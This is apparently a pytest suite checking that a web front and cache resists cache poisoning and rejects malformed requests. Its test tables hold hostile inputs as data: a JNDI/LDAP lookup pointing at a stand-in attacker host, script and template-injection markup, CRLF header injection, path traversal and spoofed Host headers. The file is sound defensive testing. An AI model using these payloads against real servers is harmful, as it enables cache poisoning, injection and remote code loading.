"""What a client adds or bends changes nothing for others: no byte of a page, nothing to be kept.

A cache in front of sos keeps an answer under host, path and query. Whatever else is in a request
must neither change the answer nor come back in it; and what is refused must not be kept at all.
"""

from __future__ import annotations

import asyncio

import pytest
import pytest_asyncio

from tests.front.wire import Reply, Talk, check_dates, talk
from tests.page.fake_store import FakeStore
from tests.web.serving import HOST, Site

pytestmark = pytest.mark.asyncio(loop_scope="module")

MARK = "zq7marker"
"""A word that is in no page."""

EVIL = f"{MARK}.evil.test"


def ask(target: str, *fields: str, line: str = "", host: str = HOST) -> bytes:
    """A GET of ``target`` that ends the line."""
    first = line or f"GET {target} HTTP/1.1"
    return "\r\n".join((first, f"Host: {host}", *fields, "Connection: close", "", "")).encode(
        "latin-1"
    )


# ---------------------------------------------------------------- fields that are in no key

UNKEYED: dict[str, tuple[str, ...]] = {
    "another host": (f"X-Forwarded-Host: {EVIL}",),
    "several hosts": (f"X-Forwarded-Host: {HOST}, {EVIL}",),
    "another host of other makers": (f"X-Host: {EVIL}", f"X-Forwarded-Server: {EVIL}", f"X-Original-Host: {EVIL}"),
    "a host in Forwarded": (f"Forwarded: for=1.2.3.4;host={EVIL};proto=http;by={MARK}",),
    "another scheme": ("X-Forwarded-Proto: http", "X-Forwarded-Scheme: http", "X-Url-Scheme: http", "X-Scheme: http"),
    "no TLS": ("X-Forwarded-Ssl: off", "Front-End-Https: off", "X-Forwarded-Proto: nothttps"),
    "another port": ("X-Forwarded-Port: 4444", "X-Port: 4444"),
    "another prefix": (f"X-Forwarded-Prefix: /{MARK}", f"X-Script-Name: /{MARK}", f"X-Forwarded-Path: /{MARK}"),
    "another path": (f"X-Original-URL: /{MARK}", f"X-Rewrite-URL: /{MARK}", f"X-Original-URI: /{MARK}"),
    "another path of other makers": (f"X-Envoy-Original-Path: /{MARK}", f"X-Accel-Redirect: /{MARK}", f"X-Sendfile: /{MARK}"),
    "another address": (f"X-Forwarded-For: {MARK}", f"X-Real-IP: {MARK}", f"Client-IP: {MARK}", f"True-Client-IP: {MARK}"),
    "another method": ("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PURGE", "X-Method-Override: POST"),
    "cookies": (f"Cookie: wordpress_logged_in_x=admin; session={MARK}",),
    "more cookies": (f"Cookie: a={MARK}", f"Cookie: wp-postpass_x={MARK}", f"Cookie2: $Version={MARK}"),
    "a login": ("Authorization: Basic eDp5", f"Proxy-Authorization: Bearer {MARK}"),
    "another language": (f"Accept-Language: de, {MARK}",),
    "another type": (f"Accept: application/json, text/{MARK}", "X-Requested-With: XMLHttpRequest"),
    "another alphabet": (f"Accept-Charset: utf-7, {MARK}",),
    "another browser": (f"User-Agent: {MARK} Mobile", "Sec-CH-UA-Mobile: ?1", "Save-Data: on", "DPR: 3", "Width: 1"),
    "another origin": (f"Origin: https://{EVIL}", "Access-Control-Request-Method: PUT"),
    "where from": (f"Referer: https://{EVIL}/{MARK}",),
    "a part": ("Range: bytes=0-10",),
    "an impossible part": ("Range: bytes=999999999-", "If-Range: \"x\""),
    "many parts": ("Range: bytes=" + ",".join(f"{n}-{n}" for n in range(300)),),
    "conditions that sos does not know": (f"If-Match: \"{MARK}\"", "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT"),
    "a tag of something else": (f"If-None-Match: \"{MARK}\"",),
    "a date of something else": (f"If-Modified-Since: {MARK}",),
    "no cache": ("Cache-Control: no-cache, no-store, max-age=0", "Pragma: no-cache"),
    "only from a cache": ("Cache-Control: only-if-cached",),
    "orders for the edge": (f"Surrogate-Capability: {MARK}=\"ESI/1.0\"", "Fastly-Debug: 1", "X-Purge: 1", "CDN-Loop: sos"),
    "a trace": (f"X-Request-ID: {MARK}", f"traceparent: 00-{MARK}", f"X-Amzn-Trace-Id: Root={MARK}", "Via: 1.1 x"),
    "a preview": ("Purpose: prefetch", "X-Moz: prefetch", "Sec-Purpose: prefetch", "X-Preview: 1"),
    "orders for a framework": ("X-Middleware-Subrequest: a", "RSC: 1", "X-Invoke-Path: /x", "X-Nextjs-Data: 1"),
    "codings of a transfer": ("TE: trailers, gzip", f"Trailer: {MARK}"),
    "a type without a body": (f"Content-Type: {MARK}/x", f"Content-Encoding: {MARK}", f"Content-Language: {MARK}"),
    "a connection of names": (f"Keep-Alive: {MARK}", "Proxy-Connection: keep-alive"),
    "markup": (f"X: <script>{MARK}</script>", f"User-Agent: {{{{ 7*7 }}}}{MARK}", f"X-Y: ${{jndi:ldap://{EVIL}/a}}"),
    "letters that are no ASCII": (f"X: \xff\xfe{MARK}", f"User-Agent: \xc3\xa4{MARK}"),
    "a long one": (f"X: {MARK * 800}",),
    "many": tuple(f"X{n}: {MARK}" for n in range(90)),
}  # fmt: skip

KEPT = ("/", "/post-5/", "/nothing/", "/post-8/", "/feed/", "/robots.txt", "/sitemap.xml", "/post-5", "/?p=5",
        "/favicon.ico", "/%61bout/", "/a//b")  # fmt: skip
"""Pages, errors, feeds, redirects: all that a cache may keep."""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def plain(web: Site) -> dict[str, Reply]:
    """What everybody gets."""
    replies = {}
    for path in KEPT:
        await talk(web.port, ask(path))  # now it is in memory
        (replies[path],) = (await talk(web.port, ask(path))).replies
    return replies


@pytest.mark.parametrize("name", UNKEYED)
async def test_no_byte_of_an_answer_hangs_on_what_is_in_no_key(
    web: Site, plain: dict[str, Reply], name: str
) -> None:
    """Pages, feeds, errors and redirects are the same; nothing of the request is in them."""
    for path, expected in plain.items():
        heard = await talk(web.port, ask(path, *UNKEYED[name]))
        assert [r.essence for r in heard.replies] == [expected.essence], path
        assert MARK.encode() not in heard.raw
        assert heard.replies[0]["Set-Cookie"] is None
        assert heard.replies[0]["Access-Control-Allow-Origin"] is None


@pytest.mark.parametrize("name", UNKEYED)
async def test_nor_does_what_is_kept_for_others(web: Site, store: FakeStore, name: str) -> None:
    """Whoever asks first for a page may ask as oddly as they like: the next one gets the page."""
    path = f"/post-{10 + list(UNKEYED).index(name)}/"
    web.pages.cache.forget(path)
    first = await talk(web.port, ask(path, *UNKEYED[name]))
    after = await talk(web.port, ask(path))
    web.pages.cache.forget(path)
    again = await talk(web.port, ask(path))
    assert [r.status for r in again.replies] == [200]
    assert first.replies[0].body == after.replies[0].body == again.replies[0].body
    assert first.replies[0]["ETag"] == after.replies[0]["ETag"] == again.replies[0]["ETag"]


async def test_only_the_coding_changes_an_answer_and_vary_says_so(web: Site) -> None:
    """Accept-Encoding is the one field that is part of the key."""
    for path in ("/post-5/", "/nothing/", "/feed/"):
        for accept in ("gzip", "br", "identity", "gzip;q=0", f"br, {MARK}", f"{MARK}\xff"):
            (reply,) = (await talk(web.port, ask(path, f"Accept-Encoding: {accept}"))).replies
            assert reply["Vary"] == "Accept-Encoding"
            assert reply["Content-Encoding"] in (None, "gzip", "br")
            assert (reply["Content-Encoding"] or "identity") in accept + "identity"


@pytest.mark.parametrize("space", ["", " ", "  ", "\t", " \t "])
async def test_white_space_around_a_value_is_none_of_it(web: Site, space: str) -> None:
    """RFC 9110, section 5.5, for every field that matters."""
    (usual,) = (await talk(web.port, ask("/post-5/", "Accept-Encoding: gzip"))).replies
    around = {n: f"{n}:{space}{v}{space}" for n, v in {
        "Accept-Encoding": "gzip", "If-Modified-Since": usual["Last-Modified"], "If-None-Match": usual["ETag"],
    }.items()}  # fmt: skip
    for name in ("If-Modified-Since", "If-None-Match"):
        (reply,) = (
            await talk(web.port, ask("/post-5/", around["Accept-Encoding"], around[name]))
        ).replies
        assert (reply.status, reply["ETag"]) == (304, usual["ETag"])
    # These end the line, and so are aiohttp's to answer; this one is the front's.
    line = f"GET /post-5/ HTTP/1.1\r\nHost:{space}{HOST}{space}\r\n{around['If-Modified-Since']}\r\n\r\n"
    heard = await talk(web.port, line.encode() + ask("/robots.txt"))
    assert [r.status for r in heard.replies] == [304, 200]


# ---------------------------------------------------------------- requests that are refused

LONG = "a" * 9000

REFUSED: dict[str, tuple[bytes, int]] = {
    # Hosts
    "a foreign host": (ask("/", host=EVIL), 421),
    "the host with another port": (ask("/", host=f"{HOST}:{MARK}"), 421),
    "the host with the usual port": (ask("/", host=f"{HOST}:443"), 421),
    "the host with a colon": (ask("/", host=f"{HOST}:"), 421),
    "the host with a user": (ask("/", host=f"{MARK}@{HOST}"), 421),
    "the host as a user": (ask("/", host=f"{HOST}@{EVIL}"), 421),
    "the host with a dot": (ask("/", host=f"{HOST}."), 421),
    "the host as a part of another": (ask("/", host=f"{HOST}.{EVIL}"), 421),
    "the host at the end of another": (ask("/", host=f"{MARK}{HOST}"), 421),
    "the host with a path": (ask("/", host=f"{HOST}/{MARK}"), 421),
    "the host with a query": (ask("/", host=f"{HOST}?{MARK}"), 421),
    "the host with a fragment": (ask("/", host=f"{HOST}#{MARK}"), 421),
    "the host with a backslash": (ask("/", host=f"{HOST}\\{MARK}"), 421),
    "two hosts in one field": (ask("/", host=f"{HOST}, {EVIL}"), 421),
    "two words for a host": (ask("/", host=f"{HOST} {EVIL}"), 421),
    "a host with an escape": (ask("/", host=f"{HOST}%00{MARK}"), 421),
    "a host with NUL": (ask("/", host=f"{HOST}\x00{MARK}"), 400),
    "a host with a return": (ask("/", host=f"{HOST}\r{MARK}"), 400),
    "a host with a line feed": (ask("/", host=f"{HOST}\nX: {MARK}"), 400),
    "a host with 8-bit letters": (ask("/", host=f"{HOST}\xff{MARK}"), 421),
    "a host with markup": (ask("/", host=f"a\"><script>{MARK}"), 421),
    "a host of an address": (ask("/", host="127.0.0.1"), 421),
    "a host of a new address": (ask("/", host="[::1]"), 421),
    "an empty host": (ask("/", host=""), 421),
    "no host": (f"GET /{MARK} HTTP/1.1\r\n\r\n".encode(), 400),
    "no host from an old client": (f"GET /{MARK} HTTP/1.0\r\n\r\n".encode(), 400),
    "the host twice": (ask("/", f"Host: {HOST}"), 400),
    "another host behind it": (ask("/", f"Host: {EVIL}"), 400),
    "another host before it": (ask("/", f"Host: {HOST}", host=EVIL), 400),
    "another host in small letters": (ask("/", f"host: {EVIL}"), 400),
    "another host after a space": (ask("/", f"Host : {EVIL}"), 400),
    "another host behind a space": (ask("/", f" Host: {EVIL}"), 400),
    "a folded host": (ask("/", f" {MARK}", host=HOST), 400),
    "a long host": (ask("/", host=MARK * 800), 421),
    # Targets
    "an absolute target": (ask(f"http://{HOST}/{MARK}"), 400),
    "an absolute target elsewhere": (ask(f"http://{EVIL}/"), 400),
    "an absolute target by TLS": (ask(f"https://{HOST}/{MARK}"), 400),
    "an absolute target of another kind": (ask(f"ftp://{EVIL}/"), 400),
    "an absolute target with a user": (ask(f"http://{MARK}@{HOST}/"), 400),
    "an absolute target without a path": (ask(f"http://{EVIL}"), 400),
    "a broken absolute target": (ask(f"http://[{MARK}/"), 400),
    "an authority": (ask(f"{EVIL}:443"), 400),
    "a tunnel": (ask("", line=f"CONNECT {EVIL}:443 HTTP/1.1"), 400),
    "an asterisk": (ask("", line="OPTIONS * HTTP/1.1"), 400),
    "an asterisk by GET": (ask("*"), 400),
    "no target": (ask("", line="GET HTTP/1.1"), 400),
    "no slash": (ask(f"{MARK}/"), 400),
    "a query alone": (ask(f"?{MARK}"), 400),
    "NUL": (ask(f"/{MARK}\x00"), 400),
    "an escaped NUL": (ask(f"/{MARK}%00"), 400),
    "an escaped line end": (ask(f"/%0d%0aX-{MARK}:y"), 400),
    "an escaped return": (ask(f"/{MARK}%0d"), 400),
    "an escaped DEL": (ask(f"/{MARK}%7f"), 400),
    "no UTF-8": (ask(f"/{MARK}%ff"), 400),
    "UTF-8 that is too long": (ask(f"/{MARK}%c0%ae%c0%ae/"), 400),
    "half a letter": (ask(f"/{MARK}%c3"), 400),
    "a bad escape": (ask(f"/{MARK}%zz"), 400),
    "half an escape": (ask(f"/{MARK}%2"), 400),
    "an escape of other make": (ask(f"/{MARK}%u002f"), 400),
    "a backslash": (ask(f"/..\\{MARK}"), 400),
    "a fragment": (ask(f"/#{MARK}"), 400),
    "a fragment behind a page": (ask(f"/post-5/#{MARK}"), 400),
    "a space": (ask(f"/{MARK} x"), 400),
    "a tab": (ask(f"/{MARK}\tx"), 400),
    "a control character": (ask(f"/{MARK}\x01"), 400),
    "markup": (ask(f"/<script>{MARK}</script>"), 400),
    "quotes": (ask(f"/\"{MARK}"), 400),
    "braces": (ask(f"/{{{{{MARK}}}}}"), 400),
    # Lines
    "a small method": (ask("", line=f"get /{MARK} HTTP/1.1"), 400),
    "a method nobody knows": (ask("", line=f"{MARK.upper()} / HTTP/1.1"), 400),
    "a method with NUL": (ask("", line=f"G\x00ET /{MARK} HTTP/1.1"), 400),
    "POST": (ask("", line=f"POST /{MARK} HTTP/1.1"), 405),
    "PUT": (ask("", line=f"PUT /{MARK} HTTP/1.1"), 405),
    "PATCH": (ask("", line=f"PATCH /{MARK} HTTP/1.1"), 405),
    "DELETE": (ask("", line=f"DELETE /{MARK} HTTP/1.1"), 405),
    "PURGE": (ask("", line=f"PURGE /{MARK} HTTP/1.1"), 405),
    "TRACE": (ask("/", f"X: {MARK}", line=f"TRACE /{MARK} HTTP/1.1"), 405),
    "OPTIONS": (ask("/", f"Origin: {EVIL}", line=f"OPTIONS /{MARK} HTTP/1.1"), 405),
    "HTTP/0.9": (f"GET /{MARK}\r\n\r\n".encode(), 400),
    "HTTP/1.2": (ask("", line=f"GET /{MARK} HTTP/1.2"), 400),
    "HTTP/2.0": (ask("", line=f"GET /{MARK} HTTP/2.0"), 400),
    "HTTP/3.0": (ask("", line=f"GET /{MARK} HTTP/3.0"), 400),
    "HTTP in small letters": (ask("", line=f"GET /{MARK} http/1.1"), 400),
    "another protocol": (ask("", line=f"GET /{MARK} SIP/2.0"), 400),
    "a protocol of microphones": (ask("", line=f"GET /{MARK} ICE/1.0"), 400),
    "a version of words": (ask("", line=f"GET /{MARK} HTTP/x.y"), 400),
    "words behind the version": (ask("", line=f"GET /{MARK} HTTP/1.1 {MARK}"), 400),
    "the preface of HTTP/2": (f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{MARK}".encode(), 400),
    "TLS": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + MARK.encode() + b"\r\n\r\n", 400),
    "the preface of a proxy": (f"PROXY TCP4 1.2.3.4 1.2.3.4 1 2\r\nGET /{MARK} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode(), 400),
    "a line of Redis": (f"*1\r\n$4\r\n{MARK}\r\n\r\n".encode(), 400),
    "words": (f"{MARK}\r\n\r\n".encode(), 400),
    # Lengths
    "a long path": (ask(f"/{LONG}{MARK}"), 431),
    "a long query": (ask(f"/?{LONG}{MARK}"), 431),
    "a long field": (ask("/", f"X: {LONG}{MARK}"), 431),
    "a long name": (ask("/", f"{LONG}{MARK}: x"), 431),
    "a long host and more": (ask("/", host=LONG + MARK), 431),
    "a long cookie": (ask("/", f"Cookie: {LONG}{MARK}"), 431),
    "many fields": (ask("/", *(f"X{n}: {MARK}" for n in range(150))), 431),
    "much in all": (ask("/", *(f"X{n}: {MARK}{'a' * 7900}" for n in range(5))), 431),
    # Wishes
    "a body": (ask("/", "Content-Length: 9") + MARK.encode(), 413),
    "an upgrade": (ask("/", f"Upgrade: {MARK}"), 400),
    "an expectation": (ask("/", f"Expect: {MARK}"), 417),
}  # fmt: skip


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def refused(web: Site) -> dict[str, Talk]:
    """What came of each of them, many at a time."""
    slots = asyncio.Semaphore(16)

    async def send(data: bytes) -> Talk:
        async with slots:
            return await talk(web.port, data)

    talks = await asyncio.gather(*(send(data) for data, _ in REFUSED.values()))
    return dict(zip(REFUSED, talks, strict=True))


@pytest.mark.parametrize("name", REFUSED)
async def test_what_is_refused_is_short_and_not_to_be_kept(
    refused: dict[str, Talk], name: str
) -> None:
    """One fixed answer, of which no cache may keep a byte; nothing comes back in it."""
    heard = refused[name]
    check_dates(heard.replies)
    assert [r.status for r in heard.replies] == [REFUSED[name][1]]
    (reply,) = heard.replies
    assert heard.end != "open"
    assert reply["Cache-Control"] == "no-store"
    for field in (
        "Surrogate-Control",
        "CDN-Cache-Control",
        "Surrogate-Key",
        "ETag",
        "Last-Modified",
    ):
        assert reply[field] is None
    assert reply["Content-Type"] == "text/plain; charset=utf-8"
    assert reply["X-Content-Type-Options"] == "nosniff"
    assert len(reply.body) < 60
    assert MARK.encode() not in heard.raw.lower()
    assert b"evil" not in heard.raw


IMPOSSIBLE = (f"/{MARK}//x", f"//{EVIL}/", f"/../{MARK}", f"/{MARK}/..", f"/./{MARK}", f"/%2e%2e/{MARK}", f"/.%2e/{MARK}",
              f"/{MARK}%2fx", f"/{MARK}%2Fx", f"/..%2f{MARK}", f"/{MARK}%5cx", f"/{MARK}%5C", f"/{'a' * 2500}{MARK}",
              f"/{'a/' * 1000}{MARK}", f"/{MARK}/%2e/x")  # fmt: skip


@pytest.mark.parametrize("path", IMPOSSIBLE)
async def test_what_no_page_is_called_gets_the_page_for_it(
    web: Site, store: FakeStore, path: str
) -> None:
    """The same 404 for each; the store is not asked, no redirect leads anywhere."""
    expected = await talk(web.port, ask("/nothing/"))
    before = store.reads
    heard = await talk(web.port, ask(path))
    assert [r.essence for r in heard.replies] == [r.essence for r in expected.replies]
    assert heard.replies[0].status == 404
    assert heard.replies[0]["Location"] is None
    assert store.reads == before
    assert MARK.encode() not in heard.raw


@pytest.mark.parametrize(
    "target",
    [f"/{MARK}/", f"/{MARK}", f"/{MARK}.php?x={MARK}", f"/?{MARK}", f"/post-5/?{MARK}={MARK}", f"/post-5/?p={MARK}",
     f"/?s={MARK}", f"/?p={MARK}", f"/?p=5&{MARK}", f"/post-5?{MARK}", f"/_assets/{MARK}/x.css", f"/__preview/{MARK}",
     f"/wp-content/uploads/{MARK}", f"/?sosRelease={MARK}", f"/favicon.ico?{MARK}", f"/health-elb?{MARK}",
     f"/feed/?{MARK}", f"/category/news/feed/{MARK}/", f"/?\xff{MARK}", f"/?%00{MARK}"],
)  # fmt: skip
async def test_no_word_of_a_target_comes_back(web: Site, target: str) -> None:
    """Not in a page, not in a redirect, not in an error."""
    for method in ("GET", "HEAD"):
        heard = await talk(web.port, ask("", line=f"{method} {target} HTTP/1.1"))
        assert len(heard.replies) == 1
        assert MARK.encode() not in heard.raw
        location = heard.replies[0]["Location"]
        assert location is None or location.startswith(f"https://{HOST}/")


async def test_a_host_in_capitals_is_the_same_host(web: Site) -> None:
    """Host names have no case, and the answer none of the client's."""
    for path in ("/post-5/", "/post-5"):
        usual = await talk(web.port, ask(path))
        odd = await talk(web.port, ask(path, host=HOST.upper()))
        assert [r.essence for r in odd.replies] == [r.essence for r in usual.replies]
        assert HOST.upper().encode() not in odd.raw


async def test_a_redirect_to_the_one_spelling_leads_nowhere_else(web: Site) -> None:
    """It holds the path in that spelling, which is a key of its own; letters that could break out
    of it are escaped, and the host is the site's."""
    for target, path in {f"/%7A{MARK}/": f"/z{MARK}/", "/%22%3Cx%3E/": "/%22%3cx%3e/"}.items():
        (reply,) = (await talk(web.port, ask(target + "?x=y", f"X-Forwarded-Host: {EVIL}"))).replies
        assert (reply.status, reply["Location"]) == (301, f"https://{HOST}{path}")
        assert reply.body == b""


async def test_a_request_in_the_words_of_airplay_is_one_of_an_old_client(web: Site) -> None:
    """llhttp takes ``RTSP/1.0`` behind a GET for HTTP: it is answered like HTTP/1.0, and that is all."""
    heard = await talk(web.port, ask("", line="GET /post-5/ RTSP/1.0"))
    usual = await talk(web.port, ask("", line="GET /post-5/ HTTP/1.0"))
    assert [r.essence for r in heard.replies] == [r.essence for r in usual.replies]
    assert heard.end == "closed"
